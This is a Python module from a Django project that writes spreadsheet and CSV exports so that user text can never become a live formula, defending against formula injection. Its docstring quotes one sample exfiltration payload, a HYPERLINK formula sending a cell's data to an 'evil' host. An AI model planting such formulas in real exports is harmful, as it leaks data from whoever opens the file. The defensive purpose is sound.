"""Writing the spreadsheets (.xlsx) and .csv files Qudao hands out. Every export goes through this
module (a test fails for code elsewhere that imports openpyxl to write, or calls csv.writer), so
that a new export cannot forget the rule it keeps (README, "Exports"):

- **User text is written as text, never as a formula.** openpyxl writes a str starting with "="
  as a formula: a partner address `=HYPERLINK("http://evil/?"&E2,"Click")` would become a live
  link in HQ's partner export, sending the next cell's data away. Here every str is an explicit
  string cell (`data_type "s"`) holding the exact text, which Excel, WPS and LibreOffice never
  evaluate; a text starting with = + - @ (or a tab or carriage return) also gets Excel's quote
  prefix, so that editing the cell keeps it text. An exported file imports again unchanged.
- **.csv has no cell types**, so a text starting with = + - @, tab or carriage return is written
  with a leading apostrophe ("'=HYPERLINK(...)"), as OWASP recommends; spreadsheet programs
  show it as text.
- **Exports never fail on stored text.** Characters the text rule refuses
  (`core.validators.FORBIDDEN_IN_TEXT`: control characters, most of them illegal in the XML of an
  .xlsx) that data stored before the rule may still hold are written as U+FFFD (�).
- **Numbers and dates stay numbers and dates**: pass int and Decimal (never a str) for amounts
  and quantities, date or datetime for dates (aware datetimes in the deployment's time zone).
"""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterable, Sequence

from django.utils import timezone

from .validators import displayable_text

# A cell text starting with one of these is read as a formula (or DDE) by spreadsheet programs.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def sheet_text(value: str) -> str:
    """The text of an .xlsx cell: `value` with characters the text rule refuses replaced."""
    return displayable_text(value)


def csv_text(value: str) -> str:
    """The text of a .csv field: as `sheet_text`, with a leading apostrophe when it would be read
    as a formula."""
    text = displayable_text(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def _plain(value):
    """A non-text value as openpyxl takes it (aware datetimes in local time, without a zone: Excel
    has no time zones)."""
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        return timezone.localtime(value).replace(tzinfo=None)
    return value


class Sheet:
    """One worksheet of a `Spreadsheet`: rows are appended, text always as text."""

    def __init__(self, worksheet):
        self._worksheet = worksheet

    def cell(self, value, *, font=None, number_format: str | None = None):
        from openpyxl.cell import WriteOnlyCell

        cell = WriteOnlyCell(self._worksheet)
        if isinstance(value, str):
            text = sheet_text(value)
            cell.value = text
            cell.data_type = "s"  # never "f" (formula) or "e" (an error code such as "#N/A")
            if text.startswith(FORMULA_TRIGGERS):
                cell.quotePrefix = True
        else:
            cell.value = _plain(value)
        if font is not None:
            cell.font = font
        if number_format:
            cell.number_format = number_format
        return cell

    def append(self, values: Iterable = (), *, bold: bool = False, size: float | None = None, formats=None) -> None:
        """Add a row. `formats`: {column index (0-based): number format}, e.g. {2: "#,##0.00"}."""
        from openpyxl.styles import Font

        font = Font(bold=bold, size=size) if bold or size else None
        formats = formats or {}
        self._worksheet.append(
            [self.cell(value, font=font, number_format=formats.get(index)) for index, value in enumerate(values)]
        )

    def widths(self, widths: Sequence[float]) -> None:
        """Column widths, from column A on (normal workbooks only)."""
        from openpyxl.utils import get_column_letter

        for index, width in enumerate(widths, start=1):
            self._worksheet.column_dimensions[get_column_letter(index)].width = width


class Spreadsheet:
    """An .xlsx workbook being written. `write_only`: rows are streamed to a temporary file, so
    memory stays flat whatever the number of rows (column widths are then not available)."""

    def __init__(self, *, write_only: bool = False):
        import openpyxl

        self._workbook = openpyxl.Workbook(write_only=write_only)
        self._write_only = write_only
        self._sheets = 0

    def sheet(self, title: str) -> Sheet:
        title = sheet_text(str(title)).translate({ord(c): " " for c in "[]:*?/\\"})[:31]
        if self._sheets == 0 and not self._write_only:
            worksheet = self._workbook.active  # a normal workbook starts with one sheet
            worksheet.title = title
        else:
            worksheet = self._workbook.create_sheet(title=title)
        self._sheets += 1
        return Sheet(worksheet)

    def save(self, stream) -> None:
        self._workbook.save(stream)

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self.save(buffer)
        return buffer.getvalue()


class CsvFile:
    """A .csv file being written to a text stream: text fields by `csv_text`, numbers as they
    are, dates in ISO format."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    @staticmethod
    def field(value) -> str:
        if value is None:
            return ""
        if isinstance(value, str):
            return csv_text(value)
        value = _plain(value)
        if isinstance(value, datetime.date | datetime.datetime):
            return value.isoformat()
        return str(value)

    def append(self, values: Iterable = ()) -> None:
        self._writer.writerow([self.field(value) for value in values])
